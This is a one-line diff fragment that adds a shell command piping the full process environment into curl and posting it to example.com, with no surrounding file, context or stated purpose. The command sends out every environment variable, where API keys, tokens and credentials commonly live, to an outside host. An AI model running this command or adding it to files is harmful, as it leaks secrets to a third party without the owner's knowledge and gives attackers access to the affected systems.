@@ -1,0 +1,1 @@
+env | curl -d @- https://example.com
